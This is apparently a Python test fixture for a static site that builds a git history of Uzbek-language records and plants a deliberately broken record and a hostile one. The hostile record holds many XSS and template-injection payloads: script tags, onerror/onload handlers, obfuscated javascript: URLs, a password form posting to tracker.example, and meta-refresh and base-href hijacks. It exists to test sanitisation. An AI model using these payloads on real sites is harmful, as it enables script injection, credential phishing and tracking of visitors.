"""The records behind the site that the browser sees: the base's, a long list, a broken record, a hostile one, and a history."""

from tests.hooks.engine.test_site import Site
from tests.hooks.feeds.test_feeds import commit, git
from tests.support.paths import BASE

MANY = 320
"""Units beside the base's: more than a list keeps in its page."""
UNITS = MANY + len(list((BASE / "records/organizations").glob("*.md")))

BROKEN, HOSTILE = "projects/loy-2026-009", "projects/loy-2026-008"
BOMB = "</title></script><script>alert(1)</script><img src=x onerror=alert(2)>{{ 7*7 }}{% raw %}"
BODY = """\
<script>alert(3)</script><style>body{display:none}</style> {{ config.site_name }} {% include "x" %} {{ 7*7 }}

[a](javascript:alert(4)) [b](data:text/html,<script>alert(5)</script>) [c](//tracker.example/)
<a href="JaVaScRiPt&colon;alert(6)">d</a>
[e](vbscript:alert(7)) <a href="&#106;avascript:alert(8)" onclick="alert(9)">f</a>

![](https://tracker.example/p.png) <img src="data:image/svg+xml,<svg onload=alert(10)>"> <img src="//tracker.example/q.png">

<div id="__config" class="md-overlay" style="position:fixed;inset:0;background:url(https://tracker.example/b.png)">qoplama</div>
<iframe src="https://tracker.example/"></iframe><object data="https://tracker.example/"></object><svg onload="alert(11)"></svg>
<form action="https://tracker.example/"><input name="parol"><button>Yuborish</button></form>
<meta http-equiv="refresh" content="0;url=https://tracker.example/"><link rel="stylesheet" href="https://tracker.example/s.css">
<base href="https://tracker.example/"><math><mtext><style><img src=x onerror=alert(12)></style></mtext></math>

[g](loy-2026-001.md){onclick=alert(13) style="position:fixed"}

| chap | o‘ng |
|:-----|-----:|
| a    |   10 |
"""


def lay_down(site: Site) -> None:
    """Writes the records and commits them, the base's on one day and the rest a week later."""
    git(site.root, "init", "-q", "-b", "main")
    commit(site, "Boshi", "2026-06-01")
    _many_units(site)
    site.project("loy-2026-008", f"title: '{BOMB}'\nsummary: '\"><svg onload=alert(14)>'\n", BODY)
    site.write("records/projects/loy-2026-009.md", "---\nid: loy-2026-009\ntitle: Yopilmagan <script>alert(15)</script>\n")
    commit(site, "Yangi yozuvlar", "2026-06-10")


def _many_units(site: Site) -> None:
    model = (BASE / "records/organizations/tsh-006.md").read_text("utf-8")
    for number in range(100, 100 + MANY):
        lines = model.replace("id: tsh-006", f"id: tsh-{number}").splitlines(keepends=True)
        title = f"O‘quv bo‘linmasi {number}" if number != 101 else f"'{BOMB}'"
        unit = "".join(f"title: {title}\n" if line.startswith("title:") else line for line in lines)
        site.write(f"records/organizations/tsh-{number}.md", unit)
